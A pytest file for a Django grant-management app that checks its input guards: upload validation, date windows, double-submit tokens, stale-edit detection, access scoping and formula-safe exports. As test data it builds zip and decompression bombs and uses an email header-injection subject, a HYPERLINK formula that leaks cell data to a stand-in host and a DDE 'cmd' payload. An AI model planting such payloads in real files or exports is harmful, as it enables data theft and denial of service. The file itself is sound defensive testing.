"""The core's guards against hostile input, races and outages, proved on every app that uses them.

Spreadsheet archives are checked before parsing; every form refuses dates outside the window; schedules are bounded;
create forms carry a one-time token; stale edits are refused with what changed; side effects wait in the outbox;
exports write user text as text; every file field carries the upload validator; request bodies are capped; a
dependencia that only received a call's notice does not read the Jefe's decision or the score.
"""

import io
import struct
import uuid
import zipfile
import zlib
from datetime import date, timedelta
from decimal import Decimal

import pytest
from django import forms as django_forms
from django.core import mail
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone
from openpyxl import Workbook

from convocatorias import services as servicios_convocatorias
from convocatorias.models import Convocatoria, MovimientoFinanciero
from cooperacion.core import archivos, calendario, checks, hojas, salidas
from cooperacion.core import services as servicios_nucleo
from cooperacion.core.models import Notificacion, Salida
from cooperacion.core.numeros import formatear_numero
from cooperacion.core.services import ErrorDeDominio
from procesos.models import Caracterizacion
from tests.factories_convocatorias import asegurar_datos_de_convocatorias, avanzar, datos_de_convocatoria
from tests.factories_procesos import CaracterizacionFactory, ProcesoFactory, con_filas

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


@pytest.fixture(autouse=True)
def _archivos_temporales(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path


def _libro_con_cadenas(cuantas: int) -> bytes:
    """A real .xlsx whose shared strings table declares `cuantas` strings (a few hundred KB compressed)."""
    base = io.BytesIO()
    libro = Workbook()
    libro.active.append(["Cooperante", "Convocatoria"])
    libro.save(base)
    salida = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(base.getvalue())) as origen, zipfile.ZipFile(salida, "w") as destino:
        for entrada in origen.infolist():
            if entrada.filename != "xl/sharedStrings.xml":
                destino.writestr(entrada, origen.read(entrada.filename), compress_type=zipfile.ZIP_DEFLATED)
        cadenas = '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        cadenas += "<si><t>a</t></si>" * cuantas + "</sst>"
        destino.writestr("xl/sharedStrings.xml", cadenas, compress_type=zipfile.ZIP_DEFLATED, compresslevel=9)
    return salida.getvalue()


class TestHojasDeCalculo:
    def test_tres_millones_de_cadenas_se_rechazan_sin_leer_el_libro(self, cliente_de, usuarios):
        contenido = _libro_con_cadenas(3_000_000)
        assert len(contenido) < 2 * 1024 * 1024
        archivo = SimpleUploadedFile("matriz.xlsx", contenido, content_type=XLSX)
        respuesta = cliente_de("profesional").post(reverse("convocatorias:importar"), {"archivo": archivo})
        assert respuesta.status_code == 200
        assert "MB de textos; el máximo es 8 MB" in respuesta.content.decode()
        assert not Convocatoria.objects.exists()

    def test_la_importacion_de_caracterizaciones_usa_el_mismo_lector(self, cliente_de, usuarios):
        archivo = SimpleUploadedFile("caracterizacion.xlsx", _libro_con_cadenas(3_000_000), content_type=XLSX)
        respuesta = cliente_de("admin").post(reverse("procesos:importar"), {"archivo": archivo})
        assert respuesta.status_code == 200
        assert "MB de textos; el máximo es 8 MB" in respuesta.content.decode()
        assert not Caracterizacion.objects.exists()

    def test_demasiadas_filas_se_rechazan_con_el_limite(self):
        libro = Workbook()
        for i in range(hojas.LIMITES.filas + 5):
            libro.active.append([i])
        destino = io.BytesIO()
        libro.save(destino)
        with pytest.raises(hojas.HojaIlegible, match="más de 5000 filas"), hojas.abrir(destino) as abierto:
            list(hojas.filas(abierto.worksheets[0]))

    @pytest.mark.parametrize(
        ("valor", "mensaje"),
        [("31/12/9999", "demasiado lejos"), ("01/01/0001", "demasiado antigua"), ("30/02/2026", "no es una fecha")],
    )
    def test_las_fechas_de_las_celdas_respetan_la_ventana(self, valor, mensaje):
        with pytest.raises(hojas.ValorInvalido, match=mensaje):
            hojas.fecha(valor)
        with pytest.raises(hojas.ValorInvalido, match=mensaje):
            hojas.fecha_hora(valor)


def _campos_de_fecha():
    casos = []
    for clase in checks.formularios_del_proyecto():
        for nombre, campo in clase.base_fields.items():
            if isinstance(campo, django_forms.DateField | django_forms.DateTimeField):
                casos.append(pytest.param(campo, id=f"{clase.__module__}.{clase.__qualname__}.{nombre}"))
    return casos


class TestVentanaDeFechas:
    @pytest.mark.parametrize("campo", _campos_de_fecha())
    def test_cada_campo_de_fecha_de_cada_formulario_rechaza_el_ano_9999_y_el_ano_1(self, campo):
        for valor in ("9999-12-31", "0001-01-01", "9999-12-31T19:00"):
            if isinstance(campo, django_forms.DateField) and "T" in valor:
                continue
            with pytest.raises(ValidationError):
                campo.clean(valor)
        hoy = timezone.localdate()
        assert campo.clean(hoy.isoformat() if isinstance(campo, django_forms.DateField) else f"{hoy}T10:00")

    def test_el_cierre_en_el_ano_9999_a_las_19_es_un_error_del_formulario(self, cliente_de, usuarios):
        asegurar_datos_de_convocatorias()
        datos = datos_de_convocatoria()
        respuesta = cliente_de("profesional").post(
            reverse("convocatorias:crear"),
            {
                "cooperante": datos["cooperante"].pk,
                "nombre": "Hasta el fin de los tiempos",
                "fuente": datos["fuente"],
                "modalidad": datos["modalidad"].pk,
                "elegibilidad": "directa",
                "nivel_impacto": "medio",
                "fecha_apertura": "2026-11-30T08:00",
                "fecha_cierre": "9999-12-31T19:00",
                "responsable": usuarios["profesional"].pk,
                "token_creacion": uuid.uuid4().hex,
            },
        )
        assert respuesta.status_code == 200
        assert "está demasiado lejos" in respuesta.content.decode()
        assert not Convocatoria.objects.exists()

    def test_un_cronograma_de_informes_hasta_2526_se_rechaza(self, usuarios, dependencias):
        with pytest.raises(ErrorDeDominio, match="demasiado lejos"):
            servicios_convocatorias.calendario_de_informes(
                inicio=date(2026, 1, 1), fin=date(2526, 1, 1), periodicidad_meses=1
            )
        with pytest.raises(ErrorDeDominio, match="el máximo es 60"):
            servicios_convocatorias.calendario_de_informes(
                inicio=date(2026, 1, 1), fin=date(2050, 1, 1), periodicidad_meses=1
            )

    def test_el_calendario_habil_no_recorre_rangos_sin_limite(self):
        with pytest.raises(ValueError, match="fuera del calendario"):
            calendario.dias_habiles_entre(date(2026, 1, 1), date(9999, 12, 31))


@pytest.fixture
def proyecto(usuarios, dependencias):
    asegurar_datos_de_convocatorias()
    convocatoria = servicios_convocatorias.convocatoria_crear(
        usuario=usuarios["profesional"], **datos_de_convocatoria()
    )
    avanzar(convocatoria, Convocatoria.Estado.EN_EJECUCION, usuarios=usuarios, dependencias=dependencias)
    return convocatoria.proyecto


class TestDobleEnvio:
    def test_enviar_dos_veces_nueva_convocatoria_crea_una(self, cliente_de, usuarios):
        asegurar_datos_de_convocatorias()
        datos = datos_de_convocatoria(nombre="Una sola vez")
        formulario = {
            "cooperante": datos["cooperante"].pk,
            "nombre": datos["nombre"],
            "fuente": datos["fuente"],
            "modalidad": datos["modalidad"].pk,
            "elegibilidad": "directa",
            "nivel_impacto": "medio",
            "fecha_apertura": (timezone.localtime() - timedelta(days=1)).strftime("%Y-%m-%dT%H:%M"),
            "fecha_cierre": (timezone.localtime() + timedelta(days=20)).strftime("%Y-%m-%dT%H:%M"),
            "responsable": usuarios["profesional"].pk,
            "token_creacion": uuid.uuid4().hex,
        }
        cliente = cliente_de("profesional")
        primera = cliente.post(reverse("convocatorias:crear"), formulario)
        segunda = cliente.post(reverse("convocatorias:crear"), formulario)
        assert Convocatoria.objects.filter(nombre="Una sola vez").count() == 1
        assert primera.status_code == segunda.status_code == 302
        assert segunda["Location"] == primera["Location"]
        assert "ya se había enviado" in cliente.get(segunda["Location"]).content.decode()

    def test_un_movimiento_de_dinero_enviado_dos_veces_se_registra_una(self, cliente_de, proyecto):
        formulario = {
            "tipo": MovimientoFinanciero.Tipo.DESEMBOLSO,
            "fecha": timezone.localdate().isoformat(),
            "monto": "1.500.000",
            "descripcion": "Primer desembolso",
            "token_creacion": uuid.uuid4().hex,
        }
        cliente = cliente_de("profesional")
        url = reverse("convocatorias:movimiento", args=[proyecto.pk])
        assert cliente.post(url, formulario).status_code == 302
        assert cliente.post(url, formulario).status_code == 302
        (movimiento,) = MovimientoFinanciero.objects.filter(proyecto=proyecto, descripcion="Primer desembolso")
        assert movimiento.monto == Decimal("1500000")

    def test_un_formulario_sin_token_pide_recargar(self, cliente_de, proyecto):
        url = reverse("convocatorias:movimiento", args=[proyecto.pk])
        datos = {"tipo": "desembolso", "fecha": timezone.localdate().isoformat(), "monto": "10", "descripcion": "x"}
        respuesta = cliente_de("profesional").post(url, datos)
        assert respuesta.status_code == 200
        assert "El formulario venció" in respuesta.content.decode()
        assert not MovimientoFinanciero.objects.filter(descripcion="x").exists()


class TestEdicionDesactualizada:
    def test_guardar_desde_una_pagina_vieja_muestra_lo_que_cambio_y_no_pisa(self, cliente_de, usuarios):
        asegurar_datos_de_convocatorias()
        convocatoria = servicios_convocatorias.convocatoria_crear(
            usuario=usuarios["profesional"], **datos_de_convocatoria(nombre="Original", territorio="Cauca")
        )
        url = reverse("convocatorias:editar", args=[convocatoria.pk])
        pagina = cliente_de("profesional").get(url)
        formulario = pagina.context["form"]
        datos = {
            nombre: formulario[nombre].value() for nombre in formulario.fields if formulario[nombre].value() is not None
        }
        datos = {k: ([str(x) for x in v] if isinstance(v, list) else v) for k, v in datos.items()}
        datos["monto"], datos["tasa_cop"] = formatear_numero(datos["monto"]), formatear_numero(datos["tasa_cop"])
        datos["fecha_apertura"] = timezone.localtime(convocatoria.fecha_apertura).strftime("%Y-%m-%dT%H:%M")
        datos["fecha_cierre"] = timezone.localtime(convocatoria.fecha_cierre).strftime("%Y-%m-%dT%H:%M")
        # Meanwhile the Jefe changes the territory.
        servicios_convocatorias.convocatoria_editar(
            convocatoria=convocatoria, usuario=usuarios["jefe"], territorio="Nariño"
        )
        datos["territorio"] = "Chocó"
        cliente = cliente_de("profesional")
        respuesta = cliente.post(url, datos)
        assert respuesta.status_code == 200
        contenido = respuesta.content.decode()
        assert "Mientras usted editaba" in contenido
        assert "Territorio: «Cauca» → «Nariño»" in contenido
        convocatoria.refresh_from_db()
        assert convocatoria.territorio == "Nariño"
        # A deliberate second submit, now carrying the current version, goes through.
        segunda = {**datos, "version_registro": respuesta.context["form"]["version_registro"].value()}
        assert cliente.post(url, segunda).status_code == 302
        convocatoria.refresh_from_db()
        assert convocatoria.territorio == "Chocó"

    def test_el_editor_del_encabezado_rechaza_una_pagina_vieja(self, cliente_de, usuarios, dependencias):
        c = con_filas(CaracterizacionFactory(proceso=ProcesoFactory(dependencia=dependencias["ocri"])))
        url = reverse("procesos:editar", args=[c.pk])
        cliente = cliente_de("profesional")
        formulario = cliente.get(url).context["form"]
        datos = {n: formulario[n].value() for n in formulario.fields if formulario[n].value() is not None}
        datos = {k: ([str(x) for x in v] if isinstance(v, list) else v) for k, v in datos.items()}
        datos["fecha"] = c.fecha.isoformat()
        datos["mecanismos_seguimiento"] = "Indicadores"
        datos["version_registro"] = c.revision
        c.objetivo = "Cambiado por otra persona"
        c._history_user = usuarios["jefe"]
        c.save()
        datos["objetivo"] = "Mi objetivo"
        respuesta = cliente.post(url, datos)
        assert respuesta.status_code == 200
        assert f"{usuarios['jefe']} guardó cambios" in respuesta.content.decode()
        c.refresh_from_db()
        assert c.objetivo == "Cambiado por otra persona"


class TestSalidas:
    def test_con_el_broker_caido_el_correo_espera_y_el_barrido_lo_envia_una_vez(
        self, usuarios, monkeypatch, django_capture_on_commit_callbacks
    ):
        from kombu.exceptions import OperationalError

        from cooperacion.core import tasks

        def caido(*args, **kwargs):
            raise OperationalError("Error 111 connecting to redis")

        with monkeypatch.context() as parche:
            parche.setattr(tasks.procesar_salida, "apply_async", caido)
            with django_capture_on_commit_callbacks(execute=True):
                servicios_nucleo.notificar(usuario=usuarios["jefe"], titulo="Con el broker caído")
            assert salidas.barrer(ahora=timezone.now() + timedelta(minutes=5)) == 0
        assert mail.outbox == []
        assert Salida.objects.get().estado == Salida.Estado.PENDIENTE
        assert salidas.barrer(ahora=timezone.now() + timedelta(minutes=5)) == 1
        assert salidas.barrer(ahora=timezone.now() + timedelta(minutes=10)) == 0
        assert [m.subject for m in mail.outbox] == ["Con el broker caído"]
        assert Notificacion.objects.get().correo_enviado_en is not None

    def test_un_asunto_con_saltos_de_linea_sale_en_una_linea(self, usuarios, django_capture_on_commit_callbacks):
        with django_capture_on_commit_callbacks(execute=True):
            servicios_nucleo.notificar(usuario=usuarios["jefe"], titulo="Convocatoria\r\nBcc: todos@x.co")
        assert [m.subject for m in mail.outbox] == ["Convocatoria Bcc: todos@x.co"]

    def test_un_efecto_que_falla_sin_remedio_queda_fallido_y_no_se_repite(self, db):
        llamadas = []

        @salidas.efecto("pruebas.siempre_falla")
        def siempre_falla(valor):
            llamadas.append(valor)
            raise ValueError("dato imposible")

        salida = salidas.encolar("pruebas.siempre_falla", 7)
        assert salidas.procesar(salida.pk) is False
        salida.refresh_from_db()
        assert (salida.estado, salida.intentos) == (Salida.Estado.FALLIDA, 1)
        assert "dato imposible" in salida.error
        assert salidas.barrer(ahora=timezone.now() + timedelta(days=1)) == 0
        assert llamadas == [7]

    def test_un_reporte_atascado_en_cola_se_puede_reintentar(self, usuarios, django_capture_on_commit_callbacks):
        from cooperacion.core.models import ReporteGenerado

        generado = ReporteGenerado.objects.create(
            codigo="actores",
            titulo="Actores",
            formato="xlsx",
            solicitado_por=usuarios["profesional"],
            creado_en=timezone.now() - timedelta(hours=2),
        )
        with django_capture_on_commit_callbacks(execute=True):
            servicios_nucleo.reporte_reintentar(generado=generado, usuario=usuarios["profesional"])
        generado.refresh_from_db()
        assert generado.estado == ReporteGenerado.Estado.LISTO
        reciente = ReporteGenerado.objects.create(
            codigo="actores", titulo="Actores", formato="xlsx", solicitado_por=usuarios["profesional"]
        )
        with pytest.raises(ErrorDeDominio, match="demasiado tiempo en cola"):
            servicios_nucleo.reporte_reintentar(generado=reciente, usuario=usuarios["profesional"])


def _zip_con_tamano_declarado(nombre: str, miembro: str, tamano: int) -> bytes:
    """A small zip whose central directory declares `tamano` bytes for `miembro` (a zip bomb's signature)."""
    destino = io.BytesIO()
    with zipfile.ZipFile(destino, "w") as paquete:
        paquete.writestr("[Content_Types].xml", "<Types/>")
        paquete.writestr(miembro, "<w:document/>")
    datos = bytearray(destino.getvalue())
    inicio = datos.find(b"PK\x01\x02", datos.find(miembro.encode()) - 200)
    while inicio != -1:
        longitud = struct.unpack("<H", datos[inicio + 28 : inicio + 30])[0]
        if datos[inicio + 46 : inicio + 46 + longitud].decode() == miembro:
            datos[inicio + 24 : inicio + 28] = struct.pack("<I", tamano)
        inicio = datos.find(b"PK\x01\x02", inicio + 4)
    return bytes(datos)


def _png_declarando(ancho: int, alto: int) -> bytes:
    def bloque(tipo, datos):
        return struct.pack(">I", len(datos)) + tipo + datos + struct.pack(">I", zlib.crc32(tipo + datos))

    return (
        b"\x89PNG\r\n\x1a\n"
        + bloque(b"IHDR", struct.pack(">IIBBBBB", ancho, alto, 8, 2, 0, 0, 0))
        + bloque(b"IEND", b"")
    )


class TestSubidas:
    def test_cada_campo_de_archivo_lleva_el_validador_del_nucleo(self):
        assert checks.revisar_archivos_de_modelos(None) == []
        assert [e.msg for e in checks.revisar_formularios(None)] == []

    def test_un_formulario_sin_las_guardas_es_senalado(self):
        class SinGuardas(django_forms.Form):
            fecha = django_forms.DateField()
            archivo = django_forms.FileField()
            monto = django_forms.DecimalField()

        problemas = checks.problemas_de_formulario(SinGuardas)
        assert len(problemas) == 3

    @pytest.mark.parametrize(
        ("nombre", "contenido", "mensaje"),
        [
            ("programa.pdf", b"MZ\x90\x00 un ejecutable", "no corresponde a un archivo PDF"),
            ("bomba.docx", _zip_con_tamano_declarado("bomba.docx", "word/document.xml", 1 << 30), "descomprimido"),
            ("gigante.png", _png_declarando(20000, 20000), "20000 × 20000 píxeles"),
        ],
    )
    def test_contenidos_peligrosos_se_rechazan_con_un_mensaje(self, nombre, contenido, mensaje):
        with pytest.raises(ValidationError, match=mensaje):
            archivos.validar_documento(SimpleUploadedFile(nombre, contenido))

    def test_un_documento_del_proceso_con_ejecutable_disfrazado_no_se_guarda(self, cliente_de, dependencias):
        c = CaracterizacionFactory(proceso=ProcesoFactory(dependencia=dependencias["ocri"]))
        datos = {f"{p}-{k}": "0" for p in ("doc", "req", "rie") for k in ("TOTAL_FORMS", "INITIAL_FORMS")}
        datos.update(
            {
                "doc-TOTAL_FORMS": "1",
                "doc-0-clase": "proceso",
                "doc-0-nombre": "Procedimiento",
                "doc-0-archivo": SimpleUploadedFile("procedimiento.pdf", b"MZ\x90\x00 no soy un pdf"),
            }
        )
        respuesta = cliente_de("profesional").post(reverse("procesos:editar-documentos", args=[c.pk]), datos)
        assert "no corresponde a un archivo PDF" in respuesta.content.decode()
        assert not c.documentos.exists()

    def test_un_cuerpo_de_60_mb_se_rechaza_antes_de_leerlo(self, cliente_de):
        respuesta = cliente_de("profesional").generic(
            "POST",
            reverse("convocatorias:importar"),
            b"x",
            content_type="multipart/form-data; boundary=x",
            CONTENT_LENGTH=str(60 * 1024 * 1024),
        )
        assert respuesta.status_code == 413
        assert "máximo de 25 MB" in respuesta.content.decode()


class TestAlcanceParcial:
    @pytest.fixture
    def informada(self, usuarios, dependencias):
        asegurar_datos_de_convocatorias()
        convocatoria = servicios_convocatorias.convocatoria_crear(
            usuario=usuarios["profesional"], **datos_de_convocatoria(nombre="Con decisión reservada")
        )
        servicios_convocatorias.convocatoria_priorizar(convocatoria=convocatoria, usuario=usuarios["profesional"])
        servicios_convocatorias.convocatoria_aplicar(
            convocatoria=convocatoria, usuario=usuarios["jefe"], motivo="Razón reservada del jefe"
        )
        return avanzar(convocatoria, Convocatoria.Estado.INFORMADA, usuarios=usuarios, dependencias=dependencias)

    def test_quien_solo_recibio_el_oficio_no_lee_la_decision_ni_el_puntaje_en_el_historial(self, cliente_de, informada):
        url = reverse("core:historial", args=["convocatorias", "convocatoria", informada.pk])
        assert "Razón reservada del jefe" in cliente_de("jefe").get(url).content.decode()
        ajeno = cliente_de("profesional2").get(url)
        assert ajeno.status_code == 200
        contenido = ajeno.content.decode()
        assert "Razón reservada del jefe" not in contenido
        assert "Puntaje" not in contenido

    def test_ni_en_la_matriz_ni_en_su_exportacion(self, cliente_de, informada):
        from openpyxl import load_workbook

        pagina = cliente_de("profesional2").get(reverse("convocatorias:matriz")).content.decode()
        assert "Con decisión reservada" in pagina
        respuesta = cliente_de("profesional2").get(reverse("convocatorias:exportar"))
        hoja = load_workbook(io.BytesIO(b"".join(respuesta.streaming_content))).worksheets[0]
        encabezado = [c.value for c in hoja[1]]
        (fila,) = [dict(zip(encabezado, f, strict=True)) for f in hoja.iter_rows(min_row=2, values_only=True)]
        assert fila["Convocatoria"] == "Con decisión reservada"
        assert (fila["Puntaje"], fila["Prioridad"], fila["Motivo de la decisión"]) == (None, None, None)
        propia = cliente_de("jefe").get(reverse("convocatorias:exportar"))
        hoja = load_workbook(io.BytesIO(b"".join(propia.streaming_content))).worksheets[0]
        assert "Razón reservada del jefe" in [c.value for c in hoja[2]]


def test_una_respuesta_pedida_fuera_de_su_etapa_lleva_a_la_convocatoria_y_no_falla(cliente_de, usuarios, dependencias):
    asegurar_datos_de_convocatorias()
    convocatoria = servicios_convocatorias.convocatoria_crear(
        usuario=usuarios["profesional"], **datos_de_convocatoria()
    )
    avanzar(convocatoria, Convocatoria.Estado.VALIDADA, usuarios=usuarios, dependencias=dependencias)
    servicios_convocatorias.aviso_guardar(
        convocatoria=convocatoria, usuario=usuarios["profesional"], asunto="A", texto="B"
    )
    destinatario = servicios_convocatorias.destinatario_agregar(
        convocatoria=convocatoria, usuario=usuarios["profesional"], organizacion="ONG Aliada", correo="ong@x.co"
    )
    respuesta = cliente_de("profesional").get(
        reverse("convocatorias:responder", args=[convocatoria.pk, destinatario.pk])
    )
    assert respuesta.status_code == 302
    assert respuesta["Location"].startswith(convocatoria.get_absolute_url())


FORMULA = '=HYPERLINK("http://malicioso.example/?d="&A1,"Ver")'


@pytest.fixture
def datos_con_formulas(usuarios, dependencias):
    """Records whose text starts like a formula, in every app that exports: a call, a project, an actor, a process."""
    from cooperacion.core.models import Actor
    from tests.factories_procesos import con_filas

    asegurar_datos_de_convocatorias()
    Actor.objects.create(nombre=FORMULA, sigla="@SUM", tipo=Actor.Tipo.ESAL)
    convocatoria = servicios_convocatorias.convocatoria_crear(
        usuario=usuarios["profesional"], **datos_de_convocatoria(nombre=FORMULA, territorio="+57 Cauca")
    )
    avanzar(convocatoria, Convocatoria.Estado.EN_EJECUCION, usuarios=usuarios, dependencias=dependencias)
    caracterizacion = con_filas(
        CaracterizacionFactory(proceso=ProcesoFactory(dependencia=dependencias["ocri"]), nombre=FORMULA)
    )
    return {
        "convocatoria": convocatoria,
        "caracterizacion": caracterizacion,
        "usuarios": usuarios,
        "dependencias": dependencias,
    }


def _plan_con_formulas(d) -> dict:
    """An action plan whose first quarter was reported below its target, justified with a formula."""
    from tests import factories_planes

    factories_planes.asegurar_datos_de_planes()
    plan = factories_planes.plan_de_accion(d["usuarios"], d["dependencias"])
    factories_planes.reportar_trimestre(plan, 1, d["usuarios"]["profesional"], {"1.1.1": 1}, justificacion=FORMULA)
    return {"periodo": f"{factories_planes.ANIO}-T1"}


def _rendicion_con_formulas(d):
    """A published strategy whose action, citizen question and metric start like a formula."""
    from datetime import date

    from rendicion.models import MetricaDefinida, RegistroMetrica
    from tests import factories_rendicion

    escenario = factories_rendicion.Escenario(d["usuarios"], d["dependencias"])
    escenario.accion.texto = FORMULA
    escenario.accion.save(update_fields=["texto"])
    escenario.pregunta.texto = FORMULA
    escenario.pregunta.save(update_fields=["texto"])
    metrica = MetricaDefinida.objects.create(
        estrategia=escenario.estrategia, red=MetricaDefinida.Red.values[0], metrica=FORMULA
    )
    RegistroMetrica.objects.create(
        definicion=metrica, mes=date(2026, 1, 1), valor=10, registrado_por=d["usuarios"]["profesional"]
    )
    return escenario


def _corte_con_formulas(d) -> dict:
    from tests import factories_rendicion

    escenario = _rendicion_con_formulas(d)
    corte = factories_rendicion.corte_evaluado(escenario.estrategia, d["usuarios"]["control"])
    return {"id": corte.pk}


def _internacional_con_formulas(d) -> dict:
    """A priority line, a need and an agreement whose texts start like a formula."""
    from cooperacion.core.models import Actor
    from cooperacion.internacional.models import AccionAlianza, Comision, InstrumentoInternacional
    from tests.factories_internacional import ConvenioFactory, LineaFactory, NecesidadFactory

    ocri = d["dependencias"]["ocri"]
    LineaFactory(nombre=FORMULA)
    NecesidadFactory(titulo=FORMULA, dependencia=ocri)
    ConvenioFactory(objeto=FORMULA, dependencia=ocri, responsable=d["usuarios"]["profesional"])
    InstrumentoInternacional.objects.create(
        codigo="C999", nombre=FORMULA, organizacion=Actor.objects.get(nombre=FORMULA), dependencia=ocri
    )
    hoy = date.today()
    AccionAlianza.objects.create(
        nombre=FORMULA,
        tipo_producto="cursos",
        sector_acompanado=FORMULA,
        dependencia=ocri,
        responsable=d["usuarios"]["profesional"],
        fecha_inicio=hoy,
        fecha_fin=hoy,
    )
    Comision.objects.create(nombre=FORMULA, dependencia=ocri)
    return {}


# How to ask each registered Excel report for the records above; a report without an entry fails the first test.
PARAMETROS_DE_PRUEBA = {
    "actores": lambda d: {"q": "HYPERLINK"},
    "matriz_convocatorias": lambda d: {},
    "plazos": lambda d: {},
    "procesos": lambda d: {},
    "caracterizacion": lambda d: {"id": d["caracterizacion"].pk},
    "convocatorias_trimestral": lambda d: {},
    "seguimiento_planes": _plan_con_formulas,
    "seguimiento_rendicion": _corte_con_formulas,
    "preguntas_espacio": lambda d: {"id": _rendicion_con_formulas(d).espacio.pk},
    "metricas_rendicion": lambda d: {"id": _rendicion_con_formulas(d).estrategia.pk},
    "lineas_prioritarias": _internacional_con_formulas,
    "necesidades": _internacional_con_formulas,
    "convenios": _internacional_con_formulas,
    "instrumentos": _internacional_con_formulas,
    "acciones_alianza": _internacional_con_formulas,
    "comisiones": _internacional_con_formulas,
}


def _reportes_excel():
    from cooperacion.core import reportes

    return [r for r in reportes.registrados() if "xlsx" in r.formatos]


def test_cada_reporte_en_excel_tiene_parametros_de_prueba():
    faltan = [r.codigo for r in _reportes_excel() if r.codigo not in PARAMETROS_DE_PRUEBA]
    assert faltan == [], f"reportes en Excel sin PARAMETROS_DE_PRUEBA en tests/test_guardas.py: {faltan}"


@pytest.mark.parametrize("codigo", sorted(PARAMETROS_DE_PRUEBA))
def test_cada_exportacion_escribe_el_texto_del_usuario_como_texto(
    codigo, usuarios, datos_con_formulas, django_capture_on_commit_callbacks
):
    from openpyxl import load_workbook

    from cooperacion.core.models import ReporteGenerado

    with django_capture_on_commit_callbacks(execute=True):
        generado = servicios_nucleo.reporte_solicitar(
            codigo=codigo,
            formato="xlsx",
            datos=PARAMETROS_DE_PRUEBA[codigo](datos_con_formulas),
            usuario=usuarios["admin"],
        )
    generado.refresh_from_db()
    assert generado.estado == ReporteGenerado.Estado.LISTO, generado.error
    libro = load_workbook(generado.archivo.path)
    celdas = [c for hoja in libro.worksheets for fila in hoja.iter_rows() for c in fila if c.value is not None]
    assert [c.coordinate for c in celdas if c.data_type == "f"] == []
    if codigo != "plazos":
        assert any(c.value == FORMULA and c.data_type == "s" for c in celdas)


def test_la_matriz_exportada_escribe_el_texto_como_texto(cliente_de, datos_con_formulas):
    from openpyxl import load_workbook

    respuesta = cliente_de("profesional").get(reverse("convocatorias:exportar"))
    hoja = load_workbook(io.BytesIO(b"".join(respuesta.streaming_content))).worksheets[0]
    celdas = [c for fila in hoja.iter_rows() for c in fila if c.value is not None]
    assert [c.coordinate for c in celdas if c.data_type == "f"] == []
    assert any(c.value == FORMULA for c in celdas)
    assert any(c.value == "+57 Cauca" and c.data_type == "s" for c in celdas)


def test_el_formato_ciclope_escribe_el_texto_como_texto(cliente_de, datos_con_formulas):
    from openpyxl import load_workbook

    respuesta = cliente_de("profesional").get(reverse("convocatorias:proyectos-ciclope"))
    hoja = load_workbook(io.BytesIO(b"".join(respuesta.streaming_content))).worksheets[0]
    celdas = [c for fila in hoja.iter_rows() for c in fila if c.value is not None]
    assert [c.coordinate for c in celdas if c.data_type == "f"] == []
    assert any(c.value == FORMULA and c.data_type == "s" for c in celdas)


def test_el_csv_de_datos_abiertos_neutraliza_las_formulas():
    from cooperacion.core.reportes import texto_seguro_csv

    assert texto_seguro_csv("=cmd|' /C calc'!A0") == "'=cmd|' /C calc'!A0"
    assert texto_seguro_csv("-2+3") == "'-2+3"
    assert texto_seguro_csv("Normal") == "Normal"
    assert texto_seguro_csv(12) == 12
